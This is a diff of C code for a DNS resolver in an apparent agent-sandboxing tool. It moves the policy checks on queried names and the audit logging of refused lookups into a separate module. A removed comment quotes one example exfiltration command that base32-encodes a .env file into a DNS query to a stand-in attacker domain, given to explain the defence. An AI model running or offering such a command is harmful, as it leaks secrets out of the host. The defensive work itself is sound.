@@ -10,26 +10,9 @@
  * relayed, so that the connection which follows is shown and decided as
  * "github.com:443".
  *
- * A query name is itself data leaving the host (`dig $(base32 .env).evil.example`
- * reaches the authoritative server of evil.example), so the QUERIED name is
- * decided before anything is forwarded (pol_net_lookup_decide): a cloud
- * metadata name or a name a network.deny entry matches is answered REFUSED
- * in every tier; a name no entry allows is answered REFUSED in the passive
- * tier and in review runs that are not aggressive (where its connection
- * would be refused anyway) and forwarded in standard and aggressive (the
- * connection that follows is decided; the name itself still reaches the
- * DNS servers: a residual); an allowed name is forwarded. A search-domain
- * expansion (name + suffix from resolv.conf) is just another queried name.
- * Each refused name gets one audit row per session (the first query's
- * type), written by the loop's thread (the store is one connection per
- * thread): the resolver publishes the row in |rows| and wakes the loop
- * through |rows_efd|. The REFUSED answer goes out before the row is
- * written: nothing ran and nothing left, so the row only records it. At
- * most RES_ROWS_MAX names get rows; refusals past that are counted (and
- * written as one row at the end), so a flood of distinct names costs
- * nothing that grows. The resolver cannot know which process asked (a
- * datagram on loopback carries no pid warden could trust), so the rows
- * have pid 0.
+ * A query name is itself data leaving the host, so the QUERIED name is
+ * decided before anything is forwarded (lookups.c says how, per tier, and
+ * how each refusal becomes one audit row written by the loop's thread).
  *
  * What it does not do: cache, or speak DNSSEC. A
  * process that asks another server directly (its own resolv.conf, a
@@ -56,7 +39,6 @@
 #include <signal.h>
 #include <stdatomic.h>
 #include <string.h>
-#include <sys/epoll.h>
 #include <sys/eventfd.h>
 #include <sys/random.h>
 #include <sys/socket.h>
@@ -71,8 +53,6 @@
 #define RES_CLIENT_MS 10000 /* a TCP client idle this long is closed */
 #define RES_QUERY_MAX 4096  /* a query larger than this is dropped */
 #define RES_TCP_MAX   (SUP_DNS_MAX_MSG + 2)
-#define RES_ROWS_MAX  1024 /* refused names with a row of their own */
-#define RES_REASON    400
 
 struct res_job {
 	bool used;
@@ -101,33 +81,9 @@ struct res_client {
 	int64_t deadline_ns;
 };
 
-/* A refused lookup's row, handed from the resolver's thread to the loop. */
-struct res_row {
-	char name[SUP_DNS_NAME_MAX]; /* lower case, no final dot */
-	uint32_t hash;
-	uint16_t qtype;
-	enum pol_verdict verdict;
-	enum pol_source source;
-	char reason[RES_REASON];
-};
-
 struct sup_resolver {
 	struct sup_names *names;
-	/* Set by sup_resolver_arm() before |armed| (release); read by the
-	 * thread only once it sees |armed| (acquire). The config's network
-	 * entries and harness endpoints do not change after that (grants,
-	 * which do, are not read here). */
-	const struct pol_config *config;
-	bool refuse_undecided; /* passive, or a review run not aggressive */
-	const char *refuse_note;
-	_Atomic bool armed;
-	/* rows[0..nrows) are written once by the thread, then published by
-	 * |nrows| (release); the loop writes rows[written..nrows) (acquire)
-	 * and never touches a slot the thread still writes. */
-	struct res_row *rows;
-	_Atomic size_t nrows;
-	size_t written; /* the loop's */
-	int rows_efd;
+	struct sup_lookups *lookups; /* the decision on each name (lookups.c) */
 	struct sockaddr_storage servers[RES_SERVERS];
 	socklen_t server_len[RES_SERVERS];
 	size_t nservers;
@@ -137,7 +93,7 @@ struct sup_resolver {
 	struct res_job jobs[RES_JOBS];
 	struct res_client clients[RES_CLIENTS];
 	uint8_t buf[SUP_DNS_MAX_MSG]; /* one datagram */
-	_Atomic uint64_t queries, recorded, refused, failed, policy_refused, rows_dropped;
+	_Atomic uint64_t queries, recorded, refused, failed;
 };
 
 /* ---- the host's files --------------------------------------------------- */
@@ -424,78 +380,6 @@ static void job_fail(struct sup_resolver *rs, struct res_job *j)
 	job_free(j);
 }
 
-static uint32_t name_hash(const char *s)
-{
-	uint32_t h = 2166136261u;
-	for (; *s; s++)
-		h = (h ^ (uint8_t)*s) * 16777619u;
-	return h;
-}
-
-/* Hands the refusal of |low| to the loop as a row, once per name. */
-static void row_for(struct sup_resolver *rs, const char *low, uint16_t qtype, enum pol_verdict v,
-		    enum pol_source src, const char *reason)
-{
-	size_t n = atomic_load_explicit(&rs->nrows, memory_order_relaxed);
-	uint32_t h = name_hash(low);
-	for (size_t i = 0; i < n; i++)
-		if (rs->rows[i].hash == h && strcmp(rs->rows[i].name, low) == 0)
-			return; /* glibc's retries, A and AAAA: one row */
-	if (n == RES_ROWS_MAX) {
-		atomic_fetch_add(&rs->rows_dropped, 1);
-		return;
-	}
-	struct res_row *w = &rs->rows[n];
-	snprintf(w->name, sizeof(w->name), "%s", low);
-	w->hash = h;
-	w->qtype = qtype;
-	w->verdict = v;
-	w->source = src;
-	snprintf(w->reason, sizeof(w->reason), "%s", reason);
-	atomic_store_explicit(&rs->nrows, n + 1, memory_order_release);
-	uint64_t one = 1;
-	(void)!write(rs->rows_efd, &one, sizeof(one));
-}
-
-/* Whether the queried name of |q| may be forwarded; when not, its row is
- * handed to the loop. Decided on the name the client asked for, before
- * any server sees it. */
-static bool decided(struct sup_resolver *rs, const struct sup_dns_question *q)
-{
-	if (!atomic_load_explicit(&rs->armed, memory_order_acquire))
-		return false; /* before the agent exists: nothing to forward */
-	char low[SUP_DNS_NAME_MAX];
-	size_t l = strlen(q->name);
-	if (l && q->name[l - 1] == '.')
-		l--;
-	if (l >= sizeof(low))
-		return false;
-	for (size_t i = 0; i < l; i++)
-		low[i] = (char)((q->name[i] >= 'A' && q->name[i] <= 'Z') ? q->name[i] + 32
-									 : q->name[i]);
-	low[l] = '\0';
-	char why[RES_REASON - 100], reason[RES_REASON];
-	enum pol_verdict v = pol_net_lookup_decide(rs->config, low, why, sizeof(why), NULL, 0);
-	enum pol_source src;
-	if (v == POL_ALLOW || (v == POL_UNDECIDED && !rs->refuse_undecided))
-		return true;
-	if (v == POL_UNDECIDED) {
-		src = POL_SRC_TIER;
-		snprintf(reason, sizeof(reason),
-			 "%s: %s is not in network.allow, so it is not looked up (its DNS servers "
-			 "would see the name); the resolver cannot tell which process asked",
-			 rs->refuse_note, low);
-	} else {
-		src = v == POL_DENY_CRITICAL ? POL_SRC_HARD_DENY : POL_SRC_RULE;
-		snprintf(reason, sizeof(reason), "%s; the resolver cannot tell which process asked",
-			 why);
-	}
-	atomic_fetch_add(&rs->policy_refused, 1);
-	wd_debug("resolver: refused a lookup of %s (%s)", low, pol_source_name(src));
-	row_for(rs, low, q->qtype, v, src, reason);
-	return false;
-}
-
 /* A query |q| (|len| bytes, copied) from a client: refused, or forwarded.
  * |client| is the TCP client's index, -1 for UDP (|from| its address). */
 static void take_query(struct sup_resolver *rs, const uint8_t *q, size_t len, int client,
@@ -524,7 +408,7 @@ static void take_query(struct sup_resolver *rs, const uint8_t *q, size_t len, in
 		reply_error(rs, &tmp, SUP_DNS_REFUSED);
 		return;
 	}
-	if (!decided(rs, &tmp.qq)) {
+	if (!sup_lookups_allow(rs->lookups, tmp.qq.name, tmp.qq.qtype)) {
 		atomic_fetch_add(&rs->refused, 1);
 		reply_error(rs, &tmp, SUP_DNS_REFUSED);
 		return;
@@ -743,8 +627,7 @@ static void resolver_free(struct sup_resolver *rs)
 	wd_close(&rs->udp_fd);
 	wd_close(&rs->tcp_fd);
 	wd_close(&rs->stop_fd);
-	wd_close(&rs->rows_efd);
-	free(rs->rows);
+	sup_lookups_free(rs->lookups);
 	free(rs);
 }
 
@@ -827,8 +710,8 @@ static int setup(struct sup_run *r, struct sup_resolver *rs, char **why)
 		return rc;
 	}
 	rs->stop_fd = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
-	rs->rows_efd = eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
-	if (rs->stop_fd < 0 || rs->rows_efd < 0) {
+	rs->lookups = sup_lookups_new();
+	if (rs->stop_fd < 0 || !rs->lookups) {
 		*why = wd_asprintf("eventfd: %s", strerror(errno));
 		return -errno;
 	}
@@ -852,9 +735,8 @@ int sup_resolver_start(struct sup_run *r, char **why)
 {
 	*why = NULL;
 	struct sup_resolver *rs = wd_calloc(1, sizeof(*rs));
-	rs->udp_fd = rs->tcp_fd = rs->stop_fd = rs->rows_efd = -1;
+	rs->udp_fd = rs->tcp_fd = rs->stop_fd = -1;
 	rs->names = r->names;
-	rs->rows = wd_calloc(RES_ROWS_MAX, sizeof(*rs->rows));
 	for (size_t k = 0; k < RES_JOBS; k++)
 		rs->jobs[k].ufd = -1;
 	for (int i = 0; i < RES_CLIENTS; i++)
@@ -887,108 +769,6 @@ int sup_resolver_start(struct sup_run *r, char **why)
 	return 0;
 }
 
-void sup_resolver_arm(struct sup_run *r)
-{
-	struct sup_resolver *rs = r->resolver;
-	if (!rs)
-		return;
-	/* The tier the pipeline decides an undecided connection with
-	 * (pipeline.c: settled by then in r->opts.tier): fixed for the run. */
-	enum pol_tier t = r->opts.tier;
-	rs->config = r->config;
-	rs->refuse_undecided =
-		t != POL_TIER_AGGRESSIVE && (t != POL_TIER_STANDARD || r->opts.review);
-	rs->refuse_note =
-		t != POL_TIER_STANDARD && t != POL_TIER_AGGRESSIVE ? "passive mode" : "review run";
-	atomic_store_explicit(&rs->armed, true, memory_order_release);
-}
-
-static const char *qtype_name(uint16_t t, char *buf, size_t n)
-{
-	switch (t) {
-	case 1:
-		return "A";
-	case 28:
-		return "AAAA";
-	case 5:
-		return "CNAME";
-	case 12:
-		return "PTR";
-	case 15:
-		return "MX";
-	case 16:
-		return "TXT";
-	case 33:
-		return "SRV";
-	case 65:
-		return "HTTPS";
-	default:
-		snprintf(buf, n, "TYPE%u", (unsigned)t);
-		return buf;
-	}
-}
-
-static void write_row(struct sup_run *r, const char *name, const char *type, const char *summary,
-		      enum pol_source src, const char *reason)
-{
-	struct wd_sb req = {0};
-	wd_sb_puts(&req, "{\"syscall\":\"lookup\",\"name\":");
-	wd_sb_json_str(&req, name);
-	wd_sb_puts(&req, ",\"type\":");
-	wd_sb_json_str(&req, type);
-	wd_sb_puts(&req, "}");
-	/* pid 0: the resolver cannot know which process asked. */
-	struct sto_row row = {
-		.ts_us = wd_now_real_us(),
-		.session = r->session_id,
-		.kind = pol_kind_name(POL_CONNECT),
-		.request = req.buf,
-		.summary = summary,
-		.decision = "deny",
-		.source = pol_source_name(src),
-		.reason = reason,
-		.decided_by = "warden",
-	};
-	int rc = sto_append(r->db, &row, NULL);
-	r->stats.rows++;
-	if (rc < 0) {
-		r->audit_failures++;
-		wd_err("the audit row for \"%s\" could not be written (%s)", summary,
-		       strerror(-rc));
-	}
-	free(req.buf);
-}
-
-/* The loop's thread: writes the rows the resolver published. */
-static void write_rows(struct sup_run *r)
-{
-	struct sup_resolver *rs = r->resolver;
-	size_t n = atomic_load_explicit(&rs->nrows, memory_order_acquire);
-	for (; rs->written < n; rs->written++) {
-		const struct res_row *w = &rs->rows[rs->written];
-		char tb[16];
-		wd_autofree char *sum = wd_asprintf("lookup %s", w->name);
-		write_row(r, w->name, qtype_name(w->qtype, tb, sizeof(tb)), sum, w->source,
-			  w->reason);
-	}
-}
-
-static void on_rows(struct sup_loop *l, int fd, uint32_t events, void *arg)
-{
-	(void)l;
-	(void)events;
-	uint64_t v;
-	(void)!read(fd, &v, sizeof(v));
-	write_rows(arg);
-}
-
-int sup_resolver_watch(struct sup_run *r)
-{
-	if (!r->resolver)
-		return 0;
-	return sup_loop_add(r->loop, r->resolver->rows_efd, EPOLLIN, on_rows, r);
-}
-
 static void stop_thread(struct sup_resolver *rs)
 {
 	if (!rs->running)
@@ -1000,6 +780,17 @@ static void stop_thread(struct sup_resolver *rs)
 	rs->running = false;
 }
 
+void sup_resolver_arm(struct sup_run *r)
+{
+	if (r->resolver)
+		sup_lookups_arm(r->resolver->lookups, r);
+}
+
+int sup_resolver_watch(struct sup_run *r)
+{
+	return r->resolver ? sup_lookups_watch(r->resolver->lookups, r) : 0;
+}
+
 void sup_resolver_finish(struct sup_run *r)
 {
 	struct sup_resolver *rs = r->resolver;
@@ -1007,21 +798,7 @@ void sup_resolver_finish(struct sup_run *r)
 		return;
 	/* Joined first: nothing is published after the rows are written. */
 	stop_thread(rs);
-	if (r->loop)
-		sup_loop_del(r->loop, rs->rows_efd);
-	if (!r->db)
-		return;
-	write_rows(r);
-	uint64_t more = atomic_load(&rs->rows_dropped);
-	if (more) {
-		wd_autofree char *sum =
-			wd_asprintf("lookup of %llu more names", (unsigned long long)more);
-		wd_autofree char *why = wd_asprintf(
-			"%llu more lookups of names past the first %d refused were refused by "
-			"policy; they have no row of their own",
-			(unsigned long long)more, RES_ROWS_MAX);
-		write_row(r, "*", "*", sum, POL_SRC_TIER, why);
-	}
+	sup_lookups_finish(rs->lookups, r);
 }
 
 void sup_resolver_stop(struct sup_run *r)
@@ -1040,6 +817,8 @@ void sup_resolver_print_stats(const struct sup_run *r, FILE *out)
 {
 	struct sup_resolver *rs = r->resolver;
 	size_t named = r->names ? sup_names_count(r->names) : 0;
+	uint64_t by_policy, dropped;
+	sup_lookups_counts(rs ? rs->lookups : NULL, &by_policy, &dropped);
 	if (rs)
 		fprintf(out,
 			"  names: %zu addresses named; resolver: %llu queries, %llu addresses "
@@ -1048,9 +827,8 @@ void sup_resolver_print_stats(const struct sup_run *r, FILE *out)
 			named, (unsigned long long)atomic_load(&rs->queries),
 			(unsigned long long)atomic_load(&rs->recorded),
 			(unsigned long long)atomic_load(&rs->refused),
-			(unsigned long long)atomic_load(&rs->failed),
-			(unsigned long long)atomic_load(&rs->policy_refused),
-			(unsigned long long)atomic_load(&rs->rows_dropped));
+			(unsigned long long)atomic_load(&rs->failed), (unsigned long long)by_policy,
+			(unsigned long long)dropped);
 	else
 		fprintf(out,
 			"  names: %zu addresses named; no session resolver (%s): names come "
@@ -1062,7 +840,7 @@ int sup_resolver_probe(char **why)
 {
 	*why = NULL;
 	struct sup_resolver *rs = wd_calloc(1, sizeof(*rs));
-	rs->udp_fd = rs->tcp_fd = rs->stop_fd = rs->rows_efd = -1;
+	rs->udp_fd = rs->tcp_fd = rs->stop_fd = -1;
 	for (size_t k = 0; k < RES_JOBS; k++)
 		rs->jobs[k].ufd = -1;
 	for (int i = 0; i < RES_CLIENTS; i++)
